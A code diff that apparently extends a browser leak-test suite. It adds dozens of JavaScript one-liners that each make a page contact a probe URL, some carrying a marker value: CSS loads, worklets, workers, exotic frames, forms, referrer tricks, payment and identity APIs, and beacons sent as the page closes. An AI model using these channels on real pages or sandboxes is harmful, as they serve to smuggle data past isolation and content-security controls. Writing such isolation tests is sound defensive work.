@@ -24,6 +24,8 @@ const bytes = (text) => new TextEncoder().encode(text);
 const packed = async (format) => new Uint8Array(await new Response(new Blob([M]).stream().pipeThrough(new CompressionStream(format))).arrayBuffer());
 const ask = (init = {}) => fetch('/', { cache: 'no-store', ...init });
 const say = (value) => ask({ headers: { accept: value } });
+const page = '<script>fetch(' + JSON.stringify(U) + ')</scr' + 'ipt><img src="' + U + '">';
+const blob = () => URL.createObjectURL(new Blob([page], { type: 'text/html' }));
 const rtc = async (url) => { const c = new RTCPeerConnection({ iceServers: [{ urls: url, username: M, credential: M }] }); c.createDataChannel(M); await c.setLocalDescription(await c.createOffer()); globalThis['rtc' + M] = c; };
 `
 
@@ -41,6 +43,13 @@ const PAGE: Readonly<Record<string, string>> = {
   image: 'new Image().src = U',
   'image in SVG': `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + U + '"/></svg>')`,
   'CSS background': "document.body.style.backgroundImage = 'url(' + U + ')'",
+  'CSS cursor': "document.body.style.cursor = 'url(' + U + '), auto'",
+  'CSS mask': "document.body.style.maskImage = 'url(' + U + ')'",
+  'CSS image-set': "document.body.style.borderImageSource = 'image-set(url(' + U + ') 1x)'",
+  'CSS font': "style('@font-face { font-family: q; src: url(' + U + ') } body { font-family: q }')",
+  'CSS import in a layer': "style('@import url(' + U + ') layer(a);')",
+  'constructed style sheet':
+    "const s = new CSSStyleSheet(); s.replaceSync('html { background: url(' + U + ') }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]",
   'CSS import': "style('@import \"' + U + '\";')",
   stylesheet: "link('stylesheet')",
   font: "new FontFace('f', 'url(' + U + ')').load().catch(() => 0)",
@@ -54,11 +63,47 @@ const PAGE: Readonly<Record<string, string>> = {
     "document.querySelectorAll('link[rel=manifest]').forEach((old) => old.remove()); link('manifest')",
   video: "add('video', { src: U, preload: 'auto' })",
   track: `document.body.insertAdjacentHTML('beforeend', '<video crossorigin src="data:video/mp4;base64,"><track default kind="captions" src="' + U + '"></video>'); document.body.lastElementChild.textTracks[0].mode = 'showing'`,
+  fetchLater: 'fetchLater(U, { activateAfter: 0 })',
+  WebSocketStream: "new WebSocketStream(U.replace('http', 'ws')).opened.catch(() => 0)",
+  'image by srcset': "add('img', { srcset: U + ' 1x' })",
+  'image of a button': "add('input', { type: 'image', src: U })",
+  'image of a filter': `document.body.insertAdjacentHTML('beforeend', '<svg width="9" height="9"><filter id="' + M + '"><feImage href="' + U + '"/></filter><rect width="9" height="9" filter="url(#' + M + ')"/></svg>')`,
+  poster: "add('video', { poster: U })",
+  audio: "add('audio', { src: U, preload: 'auto' })",
+  attributionsrc:
+    "const i = new Image(); i.setAttribute('attributionsrc', U); i.src = '/favicon.ico'; document.body.append(i)",
+  'paint worklet': 'await CSS.paintWorklet.addModule(U).catch(() => 0)',
+  'audio worklet': 'await new AudioContext().audioWorklet.addModule(U).catch(() => 0)',
+  'shared worker':
+    "new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(U) + ')'])))",
+  'cache.add': "(await caches.open('probe')).add(U).catch(() => 0)",
+  'background fetch':
+    '(await navigator.serviceWorker.ready).backgroundFetch.fetch(M, [U]).catch(() => 0)',
+  'payment method':
+    "new PaymentRequest([{ supportedMethods: U }], { total: { label: M, amount: { currency: 'GBP', value: '1' } } }).canMakePayment().catch(() => 0)",
+  'identity provider':
+    'navigator.credentials.get({ identity: { providers: [{ configURL: U, clientId: M }] } }).catch(() => 0)',
+  'compression dictionary': "link('compression-dictionary')",
+  'report-uri of a meta':
+    "add('meta', { httpEquiv: 'Content-Security-Policy', content: 'object-src data:; report-uri ' + U }, document.head); add('object', { data: '/favicon.ico' })",
+  referrer:
+    "const at = location.href; history.replaceState(null, '', '/' + M); add('img', { referrerPolicy: 'unsafe-url', src: new URL('/', U).href }); history.replaceState(null, '', at)",
+  'blob: frame': "add('iframe', { src: blob() })",
+  'data: frame': "add('iframe', { src: 'data:text/html,' + encodeURIComponent(page) })",
+  'srcdoc frame': "add('iframe', { srcdoc: page })",
+  'about:blank frame':
+    "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.fetch(U)",
+  'javascript: frame': "add('iframe', { src: 'javascript:void fetch(' + JSON.stringify(U) + ')' })",
+  'message to a frame': `const f = document.createElement('iframe'); f.srcdoc = '<script>onmessage = (e) => fetch(e.data)</scr' + 'ipt>'; f.onload = () => f.contentWindow.postMessage(U, '*'); document.body.append(f); for (const one of document.querySelectorAll('iframe')) one.contentWindow.postMessage(U, '*')`,
+  'fenced frame':
+    "const f = document.createElement('fencedframe'); f.config = new FencedFrameConfig(U.replace(/^http:/, 'https:')); document.body.append(f)",
   iframe: "add('iframe', { src: U })",
   object: "add('object', { data: U })",
   embed: "add('embed', { src: U })",
   'speculation rules':
     "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', eagerness: 'immediate', urls: [U.replace(/^http:/, 'https:')] }] }) })",
+  'speculation rules, prerender':
+    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ source: 'list', eagerness: 'immediate', urls: [U] }] }) })",
   'DNS prefetch': "link('dns-prefetch', { href: '//' + H })",
   preconnect: "link('preconnect', { href: 'http://' + H })",
   ping: "const a = Object.assign(document.createElement('a'), { href: '#p', ping: U }); document.body.append(a); a.click()",
@@ -69,6 +114,20 @@ const OPENERS: Readonly<Record<string, string>> = {
   location: 'location.href = U',
   link: "const a = Object.assign(document.createElement('a'), { href: U }); document.body.append(a); a.click()",
   'window.open': 'window.open(U)',
+  'form by GET':
+    "const f = Object.assign(document.createElement('form'), { action: U }); document.body.append(f); add('input', { name: 'v', value: M }, f); f.submit()",
+  'form to a frame':
+    "add('iframe', { name: 'into' }); const f = Object.assign(document.createElement('form'), { action: U, method: 'post', target: 'into' }); document.body.append(f); f.submit()",
+  'navigation API': 'navigation.navigate(U)',
+  'name of a window': "window.open(new URL('/', U), M)",
+  'blob: window': 'window.open(blob())',
+  'data: window': "window.open('data:text/html,' + encodeURIComponent(page))",
+  'about:blank window': "window.open('about:blank').fetch(U)",
+  'javascript: window': "window.open('javascript:void fetch(' + JSON.stringify(U) + ')')",
+  'fetch as the page ends':
+    "addEventListener('pagehide', () => fetch(U, { keepalive: true, mode: 'no-cors' })); location.href = 'about:blank'",
+  'beacon as the page ends':
+    "addEventListener('pagehide', () => navigator.sendBeacon(U, M)); location.href = 'about:blank'",
   refresh: "add('meta', { httpEquiv: 'refresh', content: '0;url=' + U }, document.head)",
 }
 
